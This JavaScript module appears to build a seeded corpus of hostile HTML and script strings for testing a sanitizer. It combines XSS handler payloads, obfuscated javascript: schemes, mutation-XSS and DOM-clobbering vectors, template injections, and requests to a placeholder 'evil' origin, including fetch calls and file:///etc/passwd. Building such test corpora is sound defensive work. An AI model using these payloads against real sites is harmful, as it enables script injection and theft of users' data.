// @ts-check
/**
 * Hostile strings, by a grammar of our own: the same at every run. What they try is to run a script, to have something
 * asked of `evil`, to leave the page, to hide or to look like somebody else. Whatever runs calls `__hit` or one of the
 * browser's dialogs; whatever is asked for has the string's number in its address.
 *
 * Another list comes from the package `big-list-of-naughty-strings`. No other on the registry was found to be of use:
 * lists of attacks there are a few lines long, or come without a licence, or run a script when they are installed.
 */

/** Numbers from 0 to below 1 (mulberry32). @param {number} seed */
function randomFrom(seed) {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4294967296;
  };
}

/** @param {string} list */
const words = (list) => list.trim().split(/\s+/);

/** What would be run. N is the string's number. */
const CODE = [
  '__hit(N)',
  'top.__hit(N)',
  'parent.__hit(N)',
  'alert(N)',
  'confirm`N`',
  'self["__h"+"it"](N)',
  '[N].map(__hit)',
  'eval("__hit(N)")',
  'Function("__hit(N)")()',
  'setTimeout("__hit(N)")',
  'throw onerror=__hit,N',
  '(()=>__hit(N))()',
  'new Image().src="EVIL/image/N";__hit(N)',
  'fetch("EVIL/fetch/N");__hit(N)',
  '__hit(N)//',
  '/**/__hit(N)/**/',
  '\\u005f_hit(N)',
];

/** What separates a tag's name and its attributes. */
const GAPS = [' ', '/', '\t', '\n', '\f', '\r\n', ' / ', ' x=">" ', ' x=y/', '\u000b ', ' x="', " '"];
const ENDS = ['>', ' >', '/>', '//>', '\n>', '', '<', ' x', '></x>', '>text'];

/** An element, what makes it act by itself, and the event of that. */
const ACTING = [
  ['img', 'src=x', 'error'],
  ['img', 'src=EVIL/picture/N', 'load'],
  ['img', 'srcset=x', 'error'],
  ['image', 'src=x', 'error'],
  ['input type=image', 'src=x', 'error'],
  ['svg', '', 'load'],
  ['svg', 'width=1', 'load'],
  ['body', '', 'load'],
  ['body', '', 'pageshow'],
  ['html', '', 'pageshow'],
  ['video', 'src=x', 'error'],
  ['video', 'poster=EVIL/poster/N src=x', 'error'],
  ['audio', 'src=x', 'error'],
  ['video><source', 'src=x', 'error'],
  ['picture><source srcset=x><img', '', 'error'],
  ['details', 'open', 'toggle'],
  ['details open><summary', 'autofocus tabindex=1', 'focus'],
  ['input', 'autofocus', 'focus'],
  ['textarea', 'autofocus', 'focus'],
  ['select', 'autofocus', 'focus'],
  ['button', 'autofocus', 'focus'],
  ['a', 'href=# autofocus tabindex=1', 'focus'],
  ['p', 'tabindex=1 autofocus', 'focus'],
  ['x-y', 'tabindex=1 autofocus', 'focus'],
  ['p', 'contenteditable autofocus', 'focusin'],
  ['marquee', 'loop=1 width=0', 'start'],
  ['marquee', '', 'finish'],
  ['iframe', '', 'load'],
  ['iframe', 'src=about:blank', 'load'],
  ['object', 'data=x', 'error'],
  ['embed', 'src=x', 'load'],
  ['link', 'rel=stylesheet href=x', 'error'],
  ['link', 'rel=preload as=image href=EVIL/preload/N', 'error'],
  ['style', '', 'load'],
  ['script', 'src=x', 'error'],
  ['track', 'default src=x', 'error'],
  ['svg><animate', 'attributeName=x dur=1ms', 'begin'],
  ['svg><set', 'attributeName=x dur=1ms', 'begin'],
  ['svg><image', 'href=x', 'error'],
  ['svg><foreignObject><img', 'src=x', 'error'],
  ['math><mtext><img', 'src=x', 'error'],
  ['math><annotation-xml encoding=text/html><img', 'src=x', 'error'],
  ['style>@keyframes k{}</style><p', 'style="animation:k 1ms"', 'animationstart'],
  ['p', 'style="transition:all 1ms"', 'transitionend'],
  ['dialog', 'open', 'close'],
  ['div', 'popover', 'beforetoggle'],
  ['div', 'style="content-visibility:auto"', 'contentvisibilityautostatechange'],
];
const PRESSED = words(
  'click mouseover pointerover pointerdown focus keydown wheel copy drag touchstart auxclick',
);
const PLACES = words(
  'p div span b a button input select textarea form table td li ul h2 blockquote code pre figure img svg math details ' +
    'summary label font center x-y xmp noscript template slot dialog map area video iframe object',
);

/** Schemes that must never be followed, in spellings that browsers or their forerunners understood. */
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  '\tjavascript:',
  '\njavascript:',
  '\u0001javascript:',
  '\u00a0javascript:',
  'java\tscript:',
  'java\nscript:',
  'java\r\nscript:',
  'java\0script:',
  'javascript\t:',
  'javascript&colon;',
  'java&Tab;script:',
  'java&NewLine;script&colon;',
  '&#106;avascript:',
  '&#x6A;avascript:',
  '&#0000106avascript:',
  '&#1;javascript:',
  '%6aavascript:',
  'jav%0Aascript:',
  'javascript%3A',
  'ｊavascript:',
  'javascript：',
  'javascript://%0a',
  'javascript:%0a',
  'javascript://x/%0d%0a',
  'javascript:void(0);',
  'javascript:/*--></title></style></textarea></script>*/',
  'feed:javascript:',
  'jar:javascript:',
  'view-source:javascript:',
  'livescript:',
  'mocha:',
  'vbscript:',
];
/** Addresses that would load or lead somewhere. */
const ADDRESSES = [
  'data:text/html,<script>CODE</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19oaXQoMSk8L3NjcmlwdD4=',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="CODE"/>',
  'data:application/xhtml+xml,<x:script xmlns:x="http://www.w3.org/1999/xhtml">CODE</x:script>',
  'data:text/javascript,CODE',
  'data:text/css,*{background:url(EVIL/css/N)}',
  'data:,x',
  'DATA:text/html,x',
  'blob:EVIL/N',
  'file:///etc/passwd',
  'filesystem:EVIL/N',
  'about:blank',
  'about:srcdoc',
  'ws://evil.example/N',
  'ftp://evil.example/N',
  'EVIL/N',
  'EVIL/N?a=1&b=2#c',
  '//evil.example/N',
  '\\\\evil.example\\N',
  '/\\evil.example/N',
  'https:evil.example/N',
  'https:///evil.example/N',
  'https://user:word@evil.example/N',
  'https://publisher.example@evil.example/N',
  'https://evil.example\\@publisher.example/',
  'https://xn--80ak6aa92e.example/N',
  'http://plain.example/N.png',
  'http://[::1]/N',
  'http://0x7f000001/N',
  'https://evil.example/N.png 1x, javascript:CODE 2x',
  'EVIL/a.png 1x,EVIL/b.png 100w',
  '../../../N',
  '?N',
  '#N',
  '#/route/N',
  '#:~:text=N',
  'mailto:x@evil.example?bcc=N',
  'tel:N',
  'sms:N',
  'intent://x#Intent;scheme=javascript;end',
  'ms-settings:N',
  'https://',
  'https://[',
  'https://evil.example:99999/',
  'https://evil.example/\ud800N',
];
/** Places for an address; URL stands for it. */
const ADDRESSED = [
  'URL',
  '<a href="URL">N</a>',
  "<a href='URL'>N</a>",
  '<a href=URL>N</a>',
  '<a href="URL" target=_blank rel=opener download ping="EVIL/ping/N">N</a>',
  '<a href="x" href="URL">N</a>',
  '<a\nhref\n=\n"URL"\n>N</a>',
  '<svg><a href="URL"><text y=9>N</text></a></svg>',
  '<svg><a xlink:href="URL"><rect width=9 height=9 /></a></svg>',
  '<math href="URL">N</math>',
  '<math><mi xlink:href="URL">N</mi></math>',
  '<math><maction actiontype=statusline xlink:href="URL">N</maction></math>',
  '<svg><use href="URL"/></svg>',
  '<svg><image href="URL" width=9 height=9 /></svg>',
  '<svg><script href="URL"></script></svg>',
  '<svg><feImage href="URL"/></svg>',
  '<svg><a><animate attributeName=href values="URL"/><text y=9>N</text></a></svg>',
  '<svg><a><set attributeName=xlink:href to="URL"/><text y=9>N</text></a></svg>',
  '<svg><rect fill="url(URL)" width=9 height=9 /></svg>',
  '<form action="URL"><button>N</button></form>',
  '<form id=f></form><button form=f formaction="URL">N</button>',
  '<form><input type=submit formaction="URL" value=N></form>',
  '<form><input type=image formaction="URL" src="URL"></form>',
  '<isindex action="URL" type=submit>',
  '<iframe src="URL"></iframe>',
  '<iframe srcdoc="URL"></iframe>',
  '<iframe src="URL" width=500 height=300 title="N">',
  '<frameset><frame src="URL"></frameset>',
  '<object data="URL"></object>',
  '<object><param name=movie value="URL"></object>',
  '<object type=text/html data="URL">fallback</object>',
  '<embed src="URL">',
  '<applet code="URL" archive="URL"></applet>',
  '<portal src="URL"></portal>',
  '<fencedframe src="URL"></fencedframe>',
  '<img src="URL">',
  '<img src="URL" alt="N" style="position:fixed">',
  '<img srcset="URL">',
  '<img src="x" srcset="URL 1x, URL 2x" sizes="auto, URL">',
  '<img lowsrc="URL" dynsrc="URL" longdesc="URL" usemap="URL">',
  '<img attributionsrc="URL" src="URL" loading=eager fetchpriority=high crossorigin=use-credentials>',
  '<picture><source srcset="URL"><img src="URL"></picture>',
  '<video src="URL" poster="URL" autoplay></video>',
  '<video><source src="URL"><track default src="URL"></video>',
  '<audio src="URL" autoplay></audio>',
  '<map><area href="URL" coords=0,0,9,9></map>',
  '<base href="URL">',
  '<link rel=stylesheet href="URL">',
  '<link rel=preload as=script href="URL">',
  '<link rel="prefetch prerender dns-prefetch preconnect" href="URL">',
  '<link rel=icon href="URL">',
  '<link rel=modulepreload href="URL">',
  '<link rel=import href="URL">',
  '<link rel=preload as=image imagesrcset="URL">',
  '<meta http-equiv=refresh content="0;url=URL">',
  '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; report-uri URL">',
  '<script src="URL"></script>',
  '<script type=module>import "URL"</script>',
  '<script type=speculationrules>{"prefetch":[{"urls":["URL"]}]}</script>',
  '<script type=importmap>{"imports":{"lit":"URL"}}</script>',
  '<body background="URL">',
  '<table background="URL"><tr><td background="URL">N</table>',
  '<html manifest="URL">',
  '<xml src="URL"></xml>',
  '<input type=image src="URL">',
  '<blockquote cite="URL">N</blockquote>',
  '<q cite="URL">N</q><ins cite="URL">N</ins>',
  '<div style="background:url(URL)">N</div>',
  '<div data-comparison="URL">N</div>',
  '<p id="URL" title="URL" lang="URL">N</p>',
  '[N](URL)',
  '![N](URL)',
  '[url=URL]N[/url]',
  'text "URL" text',
];

const STYLES = [
  'position:fixed;inset:0;z-index:2147483647;background:red',
  'position:absolute;top:0;left:0;width:100vw;height:100vh',
  'background:url(EVIL/css/N)',
  'background-image:\\75\\72\\6c(EVIL/css/N)',
  'list-style:url("EVIL/css/N")',
  'content:url(EVIL/css/N)',
  'cursor:url(EVIL/css/N),auto',
  'mask:url(EVIL/css/N#x)',
  'behavior:url(EVIL/css/N)',
  '-moz-binding:url(EVIL/css/N#x)',
  'width:expression(CODE)',
  'xss:expr/*x*/ession(CODE)',
  'animation:x 1s',
  'display:none',
  'font-family:x;src:url(EVIL/font/N)',
  '--x:url(EVIL/css/N);background:var(--x)',
  'background:image-set(url(EVIL/css/N) 1x)',
  'color:red;}body{display:none}',
];
const STYLED = [
  '<p style="STYLE">N</p>',
  "<a style='STYLE' href=#>N</a>",
  '<div style=STYLE>N</div>',
  '<style>*{STYLE}</style>',
  '<style>:host,:root,body,article,.frame,.card{STYLE}</style>',
  '<style>::slotted(*),::part(title){STYLE}</style>',
  '<style>@import "EVIL/import/N";*{STYLE}</style>',
  '<style>@import url(EVIL/import/N);</style>',
  '<style>@font-face{font-family:x;src:url(EVIL/font/N)}*{font-family:x;STYLE}</style>',
  '<style>input[value^=a]{STYLE}</style>',
  '<svg><style>*{STYLE}</style></svg>',
  '<math><style>*{STYLE}</style></math>',
  '<style><!--*{STYLE}</style><img src=x onerror="CODE">-->',
  '<style></style/x><p style="STYLE">',
  '<link rel=stylesheet href="data:text/css,*{STYLE}">',
  '<table style="STYLE"><tr><td style="STYLE" width=100% height=100%>N</table>',
  '<font style="STYLE" size=7 color=red face=x>N</font>',
  '<p class="frame card title visually-hidden scroll" part="title message" slot=x style="STYLE">N</p>',
  'STYLE',
  '}*{STYLE}',
  '</style><p style="STYLE">',
];

/** What parsers read in one way, and again in another once it has been written down. HERE stands for an attack. */
const MUTATING = [
  '<svg></p><style><a id="</style>HERE">',
  '<svg><p><style><!--</style><a title="--&gt;HERE">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;QUOTED">',
  '<math><mtext><table><mglyph><style><math>HERE',
  '<form><math><mtext></form><form><mglyph><style></math>HERE',
  '<math><mi></mi><mtext><mglyph><svg><mtext><textarea><path id="</textarea>HERE">',
  '<math><annotation-xml encoding="text/html"><style>HERE</style></annotation-xml></math>',
  '<math><annotation-xml><p><style>HERE',
  '<math><malignmark><style>HERE</style></malignmark>',
  '<svg><desc><style>HERE</style></desc></svg>',
  '<svg><title><style>HERE</style></title></svg>',
  '<svg><foreignObject><math><mi><style>HERE',
  '<svg><annotation-xml><foreignobject><style><!--</style><p id="-->HERE">',
  '<svg><a><svg><style>HERE</style></svg></a></svg>',
  '<svg><style>&lt;/style&gt;QUOTED</style></svg>',
  '<svg><![CDATA[><svg>]]>HERE',
  '<![CDATA[>HERE]]>',
  '<?xml version="1.0"?>HERE',
  '<?x >HERE?>',
  '<!doctype x [<!ENTITY y "HERE">]>',
  '<!-->HERE-->',
  '<!--->HERE-->',
  '<!-- --!>HERE -->',
  '<!--><!-->HERE',
  '<!-- <!-- --> HERE -->',
  '<!x>HERE',
  '</ x>HERE',
  '<//x>HERE',
  '<noscript><p title="</noscript>HERE"></noscript>',
  '<noscript>HERE</noscript>',
  '<noembed><p title="</noembed>HERE">',
  '<noframes><p title="</noframes>HERE">',
  '<xmp><p title="</xmp>HERE">',
  '<title><p title="</title>HERE">',
  '<textarea><p title="</textarea>HERE">',
  '<iframe><p title="</iframe>HERE">',
  '<style><p title="</style>HERE">',
  '<script><!--<script>"</script>HERE',
  '<plaintext>HERE',
  '<listing>\n\n&lt;QUOTED</listing>',
  '<select><style></select>HERE</style>',
  '<select><template><style></template>HERE</style></select>',
  '<select><option><style>HERE</select>',
  '<option><style></option></select>HERE',
  '<template>HERE</template>',
  '<template><s><template><s>HERE</s></template></s></template>',
  '<div><template shadowrootmode=open>HERE</template></div>',
  '<p><template shadowrootmode=closed><slot></slot>HERE',
  '<table><tr><td>HERE</table>',
  '<table>HERE<tr><td>',
  '<table><caption><svg><p>HERE',
  '<table><colgroup><svg>HERE',
  '<a><table><a>HERE</table>',
  '<b><p><i></b>HERE</i></p>',
  '<p><svg><g/onload=CODE//<p>HERE',
  '<b <HERE',
  '<a/><a title="</a>HERE">',
  '<p title="</p>HERE">',
  "<p title='\"HERE'>",
  '<p title=`HERE`>',
  '<p id=x"HERE>',
  '">HERE',
  "'>HERE",
  '`>HERE',
  '-->HERE',
  ']]>HERE',
  '</title>HERE',
  '</textarea>HERE',
  '</script>HERE',
  '</style>HERE',
  '</template>HERE',
  '</noscript>HERE',
  '</article></section></div>HERE',
  '</body></html>HERE',
  '<frameset>HERE</frameset>',
  '<body><head>HERE',
  '<ruby><rt>HERE</ruby>',
  '<dd><dt><li>HERE',
  '<h1><h2>HERE',
  '<button><button>HERE',
  '<a><a><a>HERE',
  '<nobr><nobr>HERE',
  '<font><font><p>HERE',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>HERE"></style></h1>',
  '<details open><summary>HERE</summary>HERE</details>',
  '<x-y><slot>HERE</slot></x-y>',
  '<img alt="--><HERE">',
  '<code>&lt;p&gt;<!--c-->HERE</code>',
  'DEEP<b>HERE',
];

/** Names that stand before properties of a document, a window, an element or a form. */
const NAMES = words(
  'cookie body head forms links images title domain referrer documentElement currentScript createElement ' +
    'createTreeWalker createDocumentFragment importNode adoptNode getElementById querySelector querySelectorAll ' +
    'write open close attributes childNodes children parentNode nodeName nodeType nodeValue innerHTML outerHTML ' +
    'textContent firstChild lastChild nextSibling removeChild insertBefore appendChild cloneNode ownerDocument ' +
    'namespaceURI localName tagName removeAttribute setAttribute getAttributeNode hasChildNodes remove replaceWith ' +
    'before append matches closest contains style className id name action method target submit elements length ' +
    'location self top parent frames opener history navigator fetch alert name document window customElements ' +
    'trustedTypes performance litElementVersions litHtmlVersions reactiveElementVersions testServers __hit ' +
    '__proto__ constructor prototype toString valueOf hasOwnProperty defaultView implementation isConnected shadowRoot ' +
    'content-provider article-view content cards heading email field-0 citation-1 content-citation-1 cw-doctor',
);
const CLOBBERING = [
  '<form name=NAME><input name=OTHER></form>HERE',
  '<form onclick=CODE><input name=NAME><input name=OTHER>HERE</form>',
  '<form id=NAME><button name=OTHER form=NAME>N</button></form>',
  '<a id=NAME><a id=NAME name=OTHER href="javascript:CODE">N</a>',
  '<img name=NAME alt=N>HERE',
  '<img id=NAME name=OTHER alt=N>',
  '<iframe name=NAME srcdoc="<a id=OTHER href=EVIL/frame/N>">N</iframe>',
  '<object id=NAME><param name=OTHER></object>HERE',
  '<embed name=NAME src=x>',
  '<p id=NAME>HERE</p>',
  '<h2 id=NAME>N</h2>',
  '<div id=NAME data-NAME=OTHER class=NAME>N</div>',
  '<output id=NAME name=OTHER>N</output>',
  '<p><fieldset name=NAME><textarea name=OTHER></textarea></fieldset>',
  '<map name=NAME><area id=OTHER href="javascript:CODE"></map>',
  '<slot name=NAME></slot><p slot=NAME part=OTHER exportparts=NAME is=NAME>N</p>',
  '<button popovertarget=NAME commandfor=NAME command=show-modal>N</button>',
  '<label for=NAME>N</label><a href="#NAME">N</a>',
  'NAME',
  'NAME.OTHER',
  '{"NAME":{"OTHER":N}}',
];

/** Languages of templates, and places inside scripts and JSON. */
const TEMPLATES = [
  '{{constructor.constructor("CODE")()}}',
  '{{CODE}}',
  '{{=CODE}}',
  '{{{CODE}}}',
  '$' + '{CODE}',
  '#{CODE}',
  '<%=CODE%>',
  '<?=CODE?>',
  '[[CODE]]',
  '{%CODE%}',
  '@{CODE}',
  '<p v-html="CODE" :x="CODE" @click="CODE">N</p>',
  '<p ng-app ng-init="CODE" x-data x-init="CODE">N</p>',
  '<p data-x="{CODE}" (click)="CODE" [innerHTML]="CODE" #x>N</p>',
  '<p .innerHTML="CODE" @click="CODE" ?hidden=CODE>N</p>',
  '<!--?lit$N$-->CODE<?lit$N$>',
  'lit$000000000$HERE',
  '<?lit$000000000$?>HERE',
  '{"_$litType$":1,"strings":["HERE"],"values":[]}',
  '</script><script>CODE</script>',
  '"-CODE-"',
  "'-CODE-'",
  '";CODE;//',
  "';CODE;//",
  '`;CODE;//',
  '\\";CODE//',
  '\u2028CODE\u2029',
  '"}],"x":[{"html":"HERE',
  '*/CODE/*',
  '\\u003cscript\\u003eCODE\\u003c/script\\u003e',
  '<script>CODE',
  '<script >CODE</script >',
  '<script/x>CODE</script/x>',
  '<SCRIPT>CODE</SCRIPT>',
  '<script\n>CODE</script\n>',
  '<script type=module>CODE</script>',
  '<script type=text/ecmascript language=javascript>CODE</script>',
  '<script async defer nomodule>CODE</script>',
  '<scr<script>ipt>CODE</scr</script>ipt>',
  '<<script>CODE//<</script>',
  '<script>/*</script>*/CODE</script>',
  '<script><!--\nCODE\n--></script>',
  '<svg><script>CODE</script></svg>',
  '<svg><script>&#95;_hit(N)</script></svg>',
  '<svg><script><![CDATA[CODE]]></script></svg>',
  '<math><script>CODE</script></math>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">CODE</x:script>',
  '<script src=EVIL/script/N></script>',
  '<script src=//evil.example/N></script>',
  '<script src="data:text/javascript,CODE"></script>',
  '<noscript><script>CODE</script>',
  '<template><script>CODE</script>',
  '\u0000<script>CODE</script>',
  '<s\u0000cript>CODE</script>',
  '＜script＞CODE＜/script＞',
  '+ADw-script+AD4-CODE+ADw-/script+AD4-',
  '\ufeff<script>CODE</script>',
  '\u202e<script>CODE</script>',
  '\ud83d<script>CODE</script>\ude00',
  '2024-03-05T<script>CODE</script>',
  '2024-03-05"onclick="CODE',
];

/** Other spellings of the same. */
const SPELLINGS = [
  (/** @type {string} */ text) =>
    text.toUpperCase().replace(/__HIT|TOP|PARENT|ALERT|EVIL|HTTP/g, (word) => word.toLowerCase()),
  (/** @type {string} */ text) => text.replace(/[<>"&]/g, (sign) => `&#${sign.charCodeAt(0)};`),
  (/** @type {string} */ text) => text.replace(/[<>]/g, (sign) => `&#x${sign.charCodeAt(0).toString(16)}`),
  (/** @type {string} */ text) => text.replace(/</g, '&lt;').replace(/>/g, '&gt;'),
  (/** @type {string} */ text) => text.replace(/</g, '&amp;lt;'),
  (/** @type {string} */ text) => text.replace(/[^\w]/g, (sign) => encodeURIComponent(sign.toWellFormed())),
  (/** @type {string} */ text) => text.replace(/</g, '\\u003c'),
  (/** @type {string} */ text) => text.replace(/<(?=\w)/g, '<\0'),
  (/** @type {string} */ text) => text.replace(/ /g, '/'),
  (/** @type {string} */ text) => text.replace(/ /g, '\u0000'),
  (/** @type {string} */ text) => text.replace(/=/g, ' =\n'),
  (/** @type {string} */ text) => text.replace(/>/g, ''),
  (/** @type {string} */ text) => text.replace(/"/g, "'"),
  (/** @type {string} */ text) => text.replace(/"/g, ''),
  (/** @type {string} */ text) => text.replace(/on(?=[a-z]+=)/g, 'ON'),
  (/** @type {string} */ text) => `${text}${text}`,
  (/** @type {string} */ text) => `<p>before</p>${text}<p>after</p>`,
  (/** @type {string} */ text) => `<svg>${text}</svg>`,
  (/** @type {string} */ text) => `<math><mtext>${text}</math>`,
  (/** @type {string} */ text) => `<table><tr><td>${text}`,
  (/** @type {string} */ text) => `<select><option>${text}`,
  (/** @type {string} */ text) => `<details open>${text}`,
  (/** @type {string} */ text) => `<template>${text}</template>`,
  (/** @type {string} */ text) => `<x-y>${text}</x-y>`,
  (/** @type {string} */ text) => `<b><i><u><s>${text}</b></i></u></s>`,
  (/** @type {string} */ text) => `<!--${text}`,
  (/** @type {string} */ text) => text.split('').join('\u200b'),
];

/** Unique strings of each family. */
const FAMILIES = {
  handlers: 2_000,
  addresses: 2_900,
  styles: 500,
  mutation: 1_900,
  clobbering: 900,
  templates: 700,
  spellings: 1_200,
};

/**
 * All of them, mixed, so that the first few hundred have some of every family.
 *
 * @param {{ evil: string, naughty?: readonly string[] }} options `evil`: the origin that nobody should ask anything.
 * @returns {string[]}
 */
export function corpus({ evil, naughty = [] }) {
  const random = randomFrom(20_240);
  /** @template T @param {readonly T[]} list @returns {T} */
  const pick = (list) => /** @type {T} */ (list[Math.floor(random() * list.length)]);
  const coded = (/** @type {string} */ text) => text.replaceAll('CODE', () => pick(CODE));

  const attribute = (/** @type {string} */ name) => {
    const code = pick(CODE);
    const encoded = random() < 0.2 ? code.replace(/[_()]/g, (sign) => `&#${sign.charCodeAt(0)};`) : code;
    const value = pick([
      () => `"${encoded.replaceAll('"', '&quot;')}"`,
      () => `'${encoded}'`,
      () => encoded.replaceAll(' ', '/**/'),
      () => `\n"${encoded.replaceAll('"', '&quot;')}"\n`,
    ])();
    return `${name}=${value}`;
  };
  const acting = () => {
    const [tag = '', own = '', event = ''] = pick(ACTING);
    const gap = pick(GAPS.slice(0, 7));
    const name = random() < 0.2 ? `ON${event}` : `on${event}`;
    const parts = random() < 0.5 ? [own, attribute(name)] : [attribute(name), own];
    return `<${[tag, ...parts.filter(Boolean)].join(gap)}${pick(ENDS)}`;
  };
  const plain = () => `<img src=x onerror="${pick(CODE).replaceAll('"', '&quot;')}">`;
  const attack = () => pick([acting, plain, plain, () => `<script>${pick(CODE)}</script>`])();
  const address = () =>
    random() < 0.6
      ? pick(random() < 0.4 ? SCHEMES.slice(0, 10) : SCHEMES) + pick(CODE)
      : coded(pick(ADDRESSES));

  const make = {
    handlers: () =>
      random() < 0.8
        ? acting()
        : `<${pick(PLACES)}${pick(GAPS)}${attribute(`on${pick(PRESSED)}`)}${pick(ENDS)}N`,
    addresses: () => {
      const place = pick(ADDRESSED);
      // Often the bare address, for the fields that are one.
      const url = address();
      return random() < 0.15
        ? url
        : place.replaceAll('URL', () => (place === 'URL' ? url : url.replaceAll('"', '&quot;')));
    },
    styles: () => coded(pick(STYLED).replaceAll('STYLE', () => pick(STYLES))),
    mutation: () =>
      coded(
        pick(MUTATING)
          .replaceAll('DEEP', () =>
            pick(['<b>', '<div>', '<svg>', '<math><mtext>', '<template>', '<table><tr><td>']).repeat(600),
          )
          .replaceAll('HERE', attack)
          .replaceAll('QUOTED', () =>
            attack().replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;'),
          ),
      ),
    clobbering: () =>
      coded(
        pick(CLOBBERING)
          .replaceAll('NAME', () => pick(NAMES))
          .replaceAll('OTHER', () => pick(NAMES))
          .replaceAll('HERE', attack),
      ),
    templates: () => coded(pick(TEMPLATES).replaceAll('HERE', attack)),
    spellings: () => {
      let text = pick([
        make.handlers,
        make.addresses,
        make.mutation,
        make.clobbering,
        make.templates,
        attack,
      ])();
      for (let times = 1 + Math.floor(random() * 3); times > 0; times -= 1) text = pick(SPELLINGS)(text);
      return text;
    },
  };

  /** @type {Set<string>} */
  const known = new Set();
  for (const [name, count] of Object.entries(FAMILIES)) {
    const enough = known.size + count;
    for (let tries = 0; known.size < enough && tries < count * 40; tries += 1) {
      const text = make[/** @type {keyof typeof make} */ (name)]();
      if (text.length <= 6_000) known.add(text);
    }
  }
  for (const text of naughty) if (text) known.add(text);
  return [...known]
    .map((text) => /** @type {const} */ ([random(), text]))
    .sort(([one], [other]) => one - other)
    .map(([, text], index) => text.replaceAll('EVIL', evil).replace(/\bN\b/g, String(index)));
}
